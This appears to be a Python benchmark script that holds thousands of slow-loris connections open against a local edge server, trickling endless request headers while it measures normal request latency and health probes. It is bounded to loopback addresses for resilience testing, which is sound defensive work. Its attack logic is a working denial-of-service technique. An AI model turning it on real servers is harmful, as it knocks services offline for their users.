#!/usr/bin/env python3
"""slowloris.py: normal requests and /health probes against an edge while
many slow-loris connections are held open. Prints figures; asserts nothing.

A holder process opens --slow connections to the edge from the source
addresses 127.0.0.2 .. 127.0.0.(1 + --sources), spread evenly, and sends
each one an endless request head one byte every --trickle-ms (1 s): a
request line, then header lines that never end. A connection the edge
closes is counted and opened again (at most --reopen-rate a second), so
the attack stays at its size for as long as the edge lets it. Once all are
open (or --ramp-s has passed), a measurer process on 127.0.0.1 sends
--rate normal requests a second (a new connection each, GET --path, each
with a 5 s limit) and probes GET /health --probe-rate times a second, for
--seconds; then the same again with no attack ("quiet"), for comparison.

Every count and time is bounded: connections (--slow <= 5000), duration
(--seconds <= 300), traffic only to 127.0.0.x. Run it against a private
stack (slowloris-bench.sh starts one).

    slowloris.py --port 3000                     # 2000 slow, 100 sources, 20 s
    slowloris.py --port 3000 --slow 500 --sources 1 --seconds 10
"""

import argparse
import errno
import heapq
import multiprocessing as mp
import os
import selectors
import socket
import statistics
import sys
import threading
import time

HEAD = b"GET /api/v1/terms HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
FILLER = b"X-Slow: " + b"a" * 20 + b"\r\n"


def pct(values, p):
    if not values:
        return float("nan")
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100.0 * (len(values) - 1))))]


# ------------------------------------------------------------------ holder

class Slow:
    __slots__ = ("sock", "src", "sent", "connected", "opened_at")


def holder(args, ready, stop, out):
    """Opens and trickles the slow connections until `stop` is set; puts its counts on `out`."""
    sel = selectors.DefaultSelector()
    conns = {}
    timers = []  # (due, seq, fd)
    seq = 0
    counts = {"opened": 0, "connect_failed": 0, "closed_by_edge": 0, "answered": 0,
              "bytes_sent": 0}
    samples = []  # connections open, once a second, after the ramp
    pending = []  # source indexes to (re)open
    for i in range(args.slow):
        pending.append(i % args.sources)
    start = time.monotonic()
    ramp_done = False
    last_open = start
    opened_this_s = 0
    next_sample = start + 1

    def open_one(src_index):
        nonlocal seq
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((f"127.0.0.{2 + src_index}", 0))
            s.connect_ex(("127.0.0.1", args.port))
        except OSError:
            s.close()
            counts["connect_failed"] += 1
            pending.append(src_index)
            return
        c = Slow()
        c.sock, c.src, c.sent, c.connected, c.opened_at = s, src_index, 0, False, time.monotonic()
        conns[s.fileno()] = c
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, c)

    def drop(c, by_edge):
        fd = c.sock.fileno()
        sel.unregister(c.sock)
        c.sock.close()
        del conns[fd]
        if by_edge:
            counts["closed_by_edge"] += 1
        pending.append(c.src)

    while not stop.is_set():
        now = time.monotonic()
        if now - last_open >= 1.0:
            last_open, opened_this_s = now, 0
        limit = args.open_rate if not ramp_done else args.reopen_rate
        while pending and opened_this_s < limit and len(conns) < args.slow:
            open_one(pending.pop())
            opened_this_s += 1
        if not ramp_done and (len(conns) >= args.slow and all(c.connected for c in conns.values())
                              or now - start > args.ramp_s):
            ramp_done = True
            ready.set()
        if ramp_done and now >= next_sample:
            samples.append(len(conns))
            next_sample = now + 1
        timeout = 0.05
        if timers:
            timeout = max(0.0, min(timeout, timers[0][0] - now))
        for key, ev in sel.select(timeout):
            c = key.data
            if c.sock.fileno() not in conns:
                continue
            if ev & selectors.EVENT_WRITE and not c.connected:
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    counts["connect_failed"] += 1
                    drop(c, False)
                    continue
                c.connected = True
                counts["opened"] += 1
                sel.modify(c.sock, selectors.EVENT_READ, c)
                seq += 1
                heapq.heappush(timers, (time.monotonic() + (seq % 100) / 100.0 * args.trickle_ms
                                        / 1000.0, seq, c.sock.fileno(), c))
                continue
            if ev & selectors.EVENT_READ:
                try:
                    data = c.sock.recv(4096)
                except OSError:
                    data = b""
                if data:
                    counts["answered"] += 1
                drop(c, True)
        now = time.monotonic()
        while timers and timers[0][0] <= now:
            _, _, fd, c = heapq.heappop(timers)
            if conns.get(fd) is not c:
                continue
            stream = HEAD + FILLER * 1000
            byte = stream[c.sent % len(stream):c.sent % len(stream) + 1]
            try:
                if c.sock.send(byte) == 1:
                    c.sent += 1
                    counts["bytes_sent"] += 1
            except OSError as e:
                if e.errno not in (errno.EAGAIN, errno.EWOULDBLOCK):
                    drop(c, True)
                    continue
            seq += 1
            heapq.heappush(timers, (now + args.trickle_ms / 1000.0, seq, fd, c))
    counts["open_at_end"] = len(conns)
    counts["open_min"] = min(samples) if samples else len(conns)
    counts["open_mean"] = round(statistics.mean(samples)) if samples else len(conns)
    for c in list(conns.values()):
        c.sock.close()
    out.put(counts)


# ---------------------------------------------------------------- measurer

def request(port, path, timeout=5.0):
    """One GET on a new connection: (status, seconds), status 0 on failure or timeout."""
    t0 = time.perf_counter()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
                      .encode())
            data = b""
            deadline = t0 + timeout
            while time.perf_counter() < deadline:
                s.settimeout(max(0.01, deadline - time.perf_counter()))
                chunk = s.recv(65536)
                if not chunk:
                    break
                data += chunk
                head, sep, body = data.partition(b"\r\n\r\n")
                if sep:
                    length = None
                    for line in head.split(b"\r\n")[1:]:
                        name, _, value = line.partition(b":")
                        if name.strip().lower() == b"content-length":
                            length = int(value)
                    if length is not None and len(body) >= length:
                        break
            status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/1.") else 0
    except (OSError, ValueError, IndexError):
        status = 0
    return status, time.perf_counter() - t0


def measure(port, path, rate, probe_rate, seconds, threads=8):
    """Requests at `rate`/s and /health probes at `probe_rate`/s for `seconds`: a dict of figures."""
    lat, statuses, probes = [], {}, []
    lock = threading.Lock()
    end = time.monotonic() + seconds

    def worker(k, every, target, collect):
        n = 0
        first = time.monotonic() + k * every / threads
        while True:
            due = first + n * every
            if due >= end or time.monotonic() >= end:
                return
            delay = due - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            status, took = request(port, target)
            with lock:
                collect(status, took)
            n += 1

    def normal(status, took):
        statuses[status] = statuses.get(status, 0) + 1
        if status == 200:
            lat.append(took)

    def probe(status, took):
        probes.append((status, took))

    ts = [threading.Thread(target=worker, args=(k, threads / rate, path, normal))
          for k in range(threads)]
    ts.append(threading.Thread(target=worker, args=(0, 1.0 / probe_rate, "/health", probe)))
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    ok_probes = [t for s, t in probes if s == 200]
    return {
        "requests": sum(statuses.values()), "ok": statuses.get(200, 0),
        "statuses": " ".join(f"{k}:{v}" for k, v in sorted(statuses.items())),
        "p50_ms": pct(lat, 50) * 1000, "p99_ms": pct(lat, 99) * 1000,
        "max_ms": (max(lat) if lat else float("nan")) * 1000,
        "probes": len(probes), "probes_ok": len(ok_probes),
        "probe_max_ms": (max(ok_probes) if ok_probes else float("nan")) * 1000,
    }


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--slow", type=int, default=2000)
    ap.add_argument("--sources", type=int, default=100, help="source addresses 127.0.0.2..")
    ap.add_argument("--seconds", type=int, default=20)
    ap.add_argument("--rate", type=int, default=100, help="normal requests a second")
    ap.add_argument("--probe-rate", type=float, default=2.0)
    ap.add_argument("--path", default="/api/v1/terms")
    ap.add_argument("--trickle-ms", type=int, default=1000)
    ap.add_argument("--open-rate", type=int, default=1000, help="connections opened a second")
    ap.add_argument("--reopen-rate", type=int, default=500,
                    help="closed connections reopened a second")
    ap.add_argument("--ramp-s", type=float, default=15.0)
    ap.add_argument("--no-quiet", action="store_true", help="skip the run without an attack")
    args = ap.parse_args()
    if not (0 <= args.slow <= 5000 and 1 <= args.sources <= 250 and 1 <= args.seconds <= 300
            and 1 <= args.rate <= 2000):
        ap.error("out of bounds: --slow <= 5000, --sources 1..250, --seconds 1..300, --rate 1..2000")

    rows = []
    if not args.no_quiet:
        rows.append(("quiet", measure(args.port, args.path, args.rate, args.probe_rate,
                                      min(args.seconds, 10)), None))
    ready, stop, out = mp.Event(), mp.Event(), mp.Queue()
    p = mp.Process(target=holder, args=(args, ready, stop, out))
    t0 = time.monotonic()
    p.start()
    ready.wait(args.ramp_s + 5)
    ramp = time.monotonic() - t0
    fig = measure(args.port, args.path, args.rate, args.probe_rate, args.seconds)
    stop.set()
    counts = out.get(timeout=30)
    p.join(10)
    rows.append((f"slow={args.slow}/{args.sources}src", fig, counts))

    print(f"port={args.port} slow={args.slow} sources={args.sources} seconds={args.seconds} "
          f"rate={args.rate}/s path={args.path} ramp_s={ramp:.1f}")
    print(f"{'run':<18} {'reqs':>6} {'ok':>6} {'p50_ms':>8} {'p99_ms':>8} {'max_ms':>8} "
          f"{'probes ok/sent':>14} {'probe_max_ms':>12}  statuses")
    for name, f, _ in rows:
        print(f"{name:<18} {f['requests']:>6} {f['ok']:>6} {f['p50_ms']:>8.1f} {f['p99_ms']:>8.1f} "
              f"{f['max_ms']:>8.1f} {f['probes_ok']:>6}/{f['probes']:<7} "
              f"{f['probe_max_ms']:>12.1f}  {f['statuses']}")
    print("slow connections: " + " ".join(f"{k}={v}" for k, v in counts.items()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
